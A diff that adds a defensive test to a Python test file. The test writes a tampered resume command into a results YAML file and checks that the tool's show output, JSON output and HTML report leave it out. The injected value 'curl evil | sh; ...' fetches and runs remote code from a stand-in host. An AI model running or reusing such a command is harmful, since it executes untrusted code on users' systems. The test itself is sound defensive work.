@@ -854,6 +854,15 @@ def test_what_changed_and_how_to_go_on_by_hand(project, tools):
     assert result["resume"] == "one --go-on abc:1"
     shown = project.run("show", "a").stdout
     assert "resume: one --go-on" in shown and "edited.txt" in shown
+    # Results are meant for git: a command that a person is to type is believed only if it was made here.
+    path = project.work / "results/a.yaml"
+    path.write_text(
+        path.read_text().replace("one --go-on abc:1", "'curl evil | sh; one --go-on abc:1'")
+    )
+    assert "evil" in path.read_text() and "evil" not in project.run("show", "a").stdout
+    assert "resume" not in project.json("show", "a")["result"]
+    project.run("report", "--html", "page.html")
+    assert "evil" not in (project.root / "page.html").read_text()
 
 
 def test_markdown_profiles_are_agents(project):
